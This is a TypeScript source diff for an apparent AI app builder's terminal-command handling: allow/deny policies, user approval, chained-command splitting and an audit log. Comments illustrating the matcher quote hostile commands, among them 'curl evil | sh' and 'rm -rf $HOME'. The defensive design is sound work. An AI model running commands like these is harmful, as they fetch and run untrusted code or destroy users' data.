@@ -0,0 +1,420 @@
+import fs from "node:fs";
+import path from "node:path";
+import { desc, eq } from "drizzle-orm";
+import log from "electron-log";
+import { db } from "../../db";
+import { apps, terminalCommandAudit } from "../../db/schema";
+import type {
+  ChatMode,
+  CommandPolicy,
+  ProposedTerminalCommand,
+} from "../../lib/schemas";
+import { readSettings } from "../../main/settings";
+import type { TerminalCommandAuditEntry } from "../ipc_types";
+import {
+  DyadResponse,
+  getDyadRunBackendTerminalCmdTags,
+  getDyadRunFrontendTerminalCmdTags,
+  getDyadRunTerminalCmdTags,
+  toDyadDocument,
+} from "./dyad_tag_parser";
+import { safeJoin } from "./path_utils";
+import { executeShellCommand } from "./runShellCommand";
+import { addTerminalOutput } from "../handlers/terminal_handlers";
+
+const logger = log.scope("terminal_commands");
+
+// Keeps the audit log from growing with e.g. full install logs
+const MAX_AUDIT_OUTPUT_LENGTH = 20_000;
+const AUDIT_LOG_LIMIT = 200;
+
+export type ResolvedTerminalCommand = Omit<ProposedTerminalCommand, "policy">;
+
+export type CommandDecision =
+  | "approved"
+  | "allowlisted"
+  | "denied"
+  | "denylisted";
+
+const PYTHON_COMMAND_HINTS = ["python", "pip", "conda", "venv", "py "];
+const NODE_COMMAND_HINTS = [
+  "npm",
+  "yarn",
+  "pnpm",
+  "node",
+  "npx",
+  "vite",
+  "next",
+  "react",
+  "webpack",
+];
+
+function stripPrefix(command: string, prefix: string): string {
+  return command.startsWith(prefix)
+    ? command.substring(prefix.length).trim()
+    : command;
+}
+
+/**
+ * The chat mode that decides where general terminal commands run. Apps with
+ * a backend folder run them in the backend unless the chat is full stack.
+ */
+export function getTerminalChatMode(
+  appPath: string,
+  selectedChatMode: ChatMode | undefined,
+): ChatMode | undefined {
+  if (fs.existsSync(path.join(appPath, "backend"))) {
+    return selectedChatMode === "fullstack" ? "fullstack" : "backend";
+  }
+  return selectedChatMode;
+}
+
+/**
+ * Work out the command, folder and terminal for every terminal command tag
+ * of a response, in the order they run. Proposals and the response
+ * processor both use this, so the folder the user approves is the one the
+ * command runs in.
+ */
+export function resolveTerminalCommands(
+  response: DyadResponse,
+  chatMode: ChatMode | undefined,
+): ResolvedTerminalCommand[] {
+  const document = toDyadDocument(response);
+  const commands: Omit<ResolvedTerminalCommand, "id">[] = [];
+
+  for (const tag of getDyadRunBackendTerminalCmdTags(document)) {
+    commands.push({
+      command: tag.command,
+      cwd: path.posix.join("backend", tag.cwd ?? ""),
+      terminal: "backend",
+      description: tag.description,
+    });
+  }
+  for (const tag of getDyadRunFrontendTerminalCmdTags(document)) {
+    commands.push({
+      command: tag.command,
+      cwd: path.posix.join("frontend", tag.cwd ?? ""),
+      terminal: "frontend",
+      description: tag.description,
+    });
+  }
+
+  // General commands are routed by what they run, then by the chat mode
+  for (const tag of getDyadRunTerminalCmdTags(document)) {
+    // Remove any "cmd:" prefix that AI might add
+    let command = stripPrefix(
+      stripPrefix(tag.command.trim(), "cmd:"),
+      "command:",
+    );
+    const lowerCommand = command.toLowerCase();
+    const isPythonCommand = PYTHON_COMMAND_HINTS.some((hint) =>
+      lowerCommand.includes(hint),
+    );
+    const isNodeCommand = NODE_COMMAND_HINTS.some((hint) =>
+      lowerCommand.includes(hint),
+    );
+
+    let terminal: ResolvedTerminalCommand["terminal"] = "backend";
+    if (isPythonCommand) {
+      terminal = "backend";
+    } else if (isNodeCommand || chatMode === "ask") {
+      terminal = "frontend";
+    }
+
+    let cwd = tag.cwd ?? "";
+    const usesModeFolder =
+      isPythonCommand ||
+      isNodeCommand ||
+      chatMode === "ask" ||
+      chatMode === "backend" ||
+      chatMode === "fullstack";
+    if (!tag.cwd && usesModeFolder) {
+      cwd = terminal;
+      // Commands are run from that folder, so a path prefix would be doubled
+      if (chatMode !== "ask" || isPythonCommand || isNodeCommand) {
+        command = stripPrefix(command, `${terminal}/`);
+      }
+    }
+    commands.push({
+      command,
+      cwd,
+      terminal,
+      description: tag.description,
+    });
+  }
+
+  return commands.map((command, id) => ({
+    ...command,
+    cwd: path.posix.normalize(command.cwd || "."),
+    id,
+  }));
+}
+
+// Newlines separate commands, so they're kept
+function normalizeCommand(command: string): string {
+  return command.trim().replace(/[^\S\n]+/g, " ");
+}
+
+// Characters the shell treats as command separators, substitutions or
+// redirections
+const SHELL_METACHARACTERS = ";&|`$<>()\n";
+
+/**
+ * Match a command against a pattern. In the allowlist `*` stands for any
+ * text without shell metacharacters, so "npm install *" doesn't match
+ * "npm install x && curl evil | sh". In the denylist it stands for any
+ * text, so "rm -rf *" still matches "rm -rf $HOME". The whole command has
+ * to match and whitespace differences are ignored.
+ */
+export function matchesCommandPattern(
+  command: string,
+  pattern: string,
+  list: "allowlist" | "denylist" = "allowlist",
+): boolean {
+  const normalizedPattern = normalizeCommand(pattern);
+  if (!normalizedPattern) {
+    return false;
+  }
+  const wildcard =
+    list === "denylist"
+      ? ".*"
+      : `[^${SHELL_METACHARACTERS.replace(/[\]^$-]/g, "\\$&")}]*`;
+  const regex = new RegExp(
+    `^${normalizedPattern
+      .split("*")
+      .map((part) => part.replace(/[.+?^${}()|[\]\\]/g, "\\$&"))
+      .join(wildcard)}$`,
+  );
+  return regex.test(normalizeCommand(command));
+}
+
+// The commands chained or nested in a command line, e.g. both sides of
+// "a && b" and the inside of "$(c)"
+function splitShellCommands(command: string): string[] {
+  return command
+    .split(/&&|\|\||[;&|\n`()<>]|\$\(/)
+    .map((part) => part.trim())
+    .filter(Boolean);
+}
+
+/**
+ * Decide whether a command may run without asking. A denylist match in any
+ * policy blocks it, even if another policy allowlists it. The denylist is
+ * also checked against each chained command, so "ls && rm -rf x" is denied
+ * by "rm -rf *".
+ */
+export function getCommandPolicyDecision(
+  command: string,
+  policies: (CommandPolicy | null | undefined)[],
+): ProposedTerminalCommand["policy"] {
+  const matchesAny = (list: "allowlist" | "denylist", commands: string[]) =>
+    policies.some((policy) =>
+      policy?.[list].some((pattern) =>
+        commands.some((c) => matchesCommandPattern(c, pattern, list)),
+      ),
+    );
+  if (matchesAny("denylist", [command, ...splitShellCommands(command)])) {
+    return "deny";
+  }
+  if (matchesAny("allowlist", [command])) {
+    return "allow";
+  }
+  return "ask";
+}
+
+export async function getCommandPolicies(
+  appId: number,
+): Promise<(CommandPolicy | null | undefined)[]> {
+  const app = await db.query.apps.findFirst({
+    where: eq(apps.id, appId),
+    columns: { commandPolicy: true },
+  });
+  return [
+    readSettings().terminalCommandPolicy,
+    app?.commandPolicy as CommandPolicy | null | undefined,
+  ];
+}
+
+export async function getProposedTerminalCommands({
+  response,
+  appId,
+  appPath,
+}: {
+  response: DyadResponse;
+  appId: number;
+  appPath: string;
+}): Promise<ProposedTerminalCommand[]> {
+  const commands = resolveTerminalCommands(
+    response,
+    getTerminalChatMode(appPath, readSettings().selectedChatMode),
+  );
+  if (commands.length === 0) {
+    return [];
+  }
+  const policies = await getCommandPolicies(appId);
+  return commands.map((command) => ({
+    ...command,
+    policy: getCommandPolicyDecision(command.command, policies),
+  }));
+}
+
+function truncateOutput(output: string): string {
+  return output.length > MAX_AUDIT_OUTPUT_LENGTH
+    ? `${output.slice(0, MAX_AUDIT_OUTPUT_LENGTH)}\n… (output truncated)`
+    : output;
+}
+
+/**
+ * Run the approved commands of a response in order and write each one to
+ * the audit log. Commands that need approval only run when their id is in
+ * `approvedCommandIds`; without it (e.g. when changes are auto-approved)
+ * they are denied. Returns the commands that didn't succeed.
+ */
+export async function runTerminalCommands({
+  commands,
+  approvedCommandIds,
+  appId,
+  appPath,
+  chatId,
+  messageId,
+}: {
+  commands: ProposedTerminalCommand[];
+  approvedCommandIds: number[] | undefined;
+  appId: number;
+  appPath: string;
+  chatId: number;
+  messageId: number;
+}): Promise<{ command: ProposedTerminalCommand; error: string }[]> {
+  const failures: { command: ProposedTerminalCommand; error: string }[] = [];
+
+  for (const command of commands) {
+    const label = command.description || command.command;
+    const decision: CommandDecision =
+      command.policy === "deny"
+        ? "denylisted"
+        : command.policy === "allow"
+          ? "allowlisted"
+          : approvedCommandIds?.includes(command.id)
+            ? "approved"
+            : "denied";
+    let exitCode: number | null = null;
+    let output: string | null = null;
+
+    if (decision === "denylisted" || decision === "denied") {
+      logger.log(`Skipping ${decision} terminal command: ${command.command}`);
+      addTerminalOutput(
+        appId,
+        command.terminal,
+        `⛔ Skipped ${decision === "denylisted" ? "blocked" : "denied"} command: ${command.command}`,
+        "error",
+      );
+    } else {
+      try {
+        const cwd = safeJoin(appPath, command.cwd);
+        // Ensure the working directory exists
+        if (!fs.existsSync(cwd)) {
+          fs.mkdirSync(cwd, { recursive: true });
+          logger.log(`Created directory: ${cwd} for terminal command`);
+        }
+        logger.log(
+          `Executing terminal command: ${command.command} in ${cwd} (${command.terminal} terminal)`,
+        );
+        addTerminalOutput(
+          appId,
+          command.terminal,
+          `$ ${command.command}`,
+          "command",
+        );
+        const result = await executeShellCommand(command.command, cwd);
+        exitCode = result.exitCode;
+        output = [result.stdout.trim(), result.stderr.trim()]
+          .filter(Boolean)
+          .join("\n");
+
+        if (result.stdout.trim()) {
+          addTerminalOutput(
+            appId,
+            command.terminal,
+            result.stdout.trim(),
+            "output",
+          );
+        }
+        if (exitCode === 0) {
+          addTerminalOutput(
+            appId,
+            command.terminal,
+            `✅ ${label} completed successfully`,
+            "success",
+          );
+        } else {
+          failures.push({
+            command,
+            error:
+              exitCode === null
+                ? `Command could not be started in ${command.cwd}`
+                : `Command exited with code ${exitCode} in ${command.cwd}`,
+          });
+          addTerminalOutput(
+            appId,
+            command.terminal,
+            `❌ Error: ${label}`,
+            "error",
+          );
+        }
+      } catch (error) {
+        output = String(error);
+        failures.push({ command, error: String(error) });
+        addTerminalOutput(
+          appId,
+          command.terminal,
+          `❌ Error: ${error}`,
+          "error",
+        );
+      }
+    }
+
+    try {
+      await db.insert(terminalCommandAudit).values({
+        appId,
+        chatId,
+        messageId,
+        command: command.command,
+        cwd: command.cwd,
+        terminal: command.terminal,
+        decision,
+        exitCode,
+        output: output === null ? null : truncateOutput(output),
+      });
+    } catch (error) {
+      logger.error("Failed to write terminal command audit entry:", error);
+    }
+  }
+
+  return failures;
+}
+
+export async function listTerminalCommandAudit(
+  appId: number,
+): Promise<TerminalCommandAuditEntry[]> {
+  const rows = await db
+    .select()
+    .from(terminalCommandAudit)
+    .where(eq(terminalCommandAudit.appId, appId))
+    .orderBy(
+      desc(terminalCommandAudit.createdAt),
+      desc(terminalCommandAudit.id),
+    )
+    .limit(AUDIT_LOG_LIMIT);
+  return rows.map((row) => ({
+    id: row.id,
+    chatId: row.chatId,
+    messageId: row.messageId,
+    command: row.command,
+    cwd: row.cwd,
+    terminal: row.terminal,
+    decision: row.decision,
+    exitCode: row.exitCode,
+    output: row.output,
+    createdAt: row.createdAt,
+  }));
+}